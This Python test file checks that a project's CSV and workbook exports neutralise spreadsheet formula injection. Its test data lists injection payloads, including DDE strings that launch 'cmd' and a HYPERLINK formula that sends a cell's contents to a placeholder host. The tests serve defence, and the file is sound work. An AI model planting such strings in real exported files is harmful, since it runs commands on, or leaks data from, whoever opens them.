"""Nothing that came from data is run by the spreadsheet that opens our files (J5)."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook

from orchestration.dashboards.cells import number_cell, text_cell
from orchestration.inert import inert_text, runs_as_formula, write_csv

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"bấm vào đây")',
    "+84 912 345 678",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
)
WORDS = (
    "",
    "Nguyễn Thị Hoa",
    "a=b",
    "NV-011",
    "100%",
    "it's",
    "x\ty",
    "e-mail@cong-ty.vn",
    "'=1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_run_stays_text_in_csv(text: str) -> None:
    assert runs_as_formula(text)
    assert inert_text(text) == f"'{text}"


@pytest.mark.parametrize("text", WORDS)
def test_other_text_is_left_alone(text: str) -> None:
    assert inert_text(text) == text


def test_numbers_stay_numbers_in_csv() -> None:
    file = io.StringIO(newline="")
    write_csv(file, [["=x", -5, Decimal("-1.50"), None, True]])
    assert next(csv.reader(io.StringIO(file.getvalue(), newline=""))) == [
        "'=x", "-5", "-1.50", "", "True",
    ]  # fmt: skip


def test_every_text_of_the_corpus_comes_back_from_a_workbook_as_text() -> None:
    book = Workbook(write_only=True)
    page = book.create_sheet()
    for text in (*FORMULAS, *WORDS, "bell\x07"):
        page.append([text_cell(page, text)])
    page.append([number_cell(page, Decimal("-1.5"), "0.0")])
    content = io.BytesIO()
    book.save(content)
    cells = [
        row[0] for row in openpyxl.load_workbook(content).worksheets[0].iter_rows()
    ]
    for text, cell in zip((*FORMULAS, *WORDS, "bell\ufffd"), cells, strict=False):
        assert str(cell.value or "").strip("\r\n\t") == text.strip("\r\n\t"), text
        assert cell.data_type in {"s", "inlineStr"}, text
    assert (cells[-1].value, cells[-1].data_type) == (-1.5, "n")


def test_no_other_place_writes_csv_or_cells_of_text() -> None:
    folder = Path(__file__).parents[3] / "orchestration"
    writers = {
        path.relative_to(folder).as_posix()
        for path in folder.rglob("*.py")
        if re.search(
            r"csv\.(writer|DictWriter)|\.write_csv\(|format csv", path.read_text()
        )
    }
    assert writers == {"inert.py"}
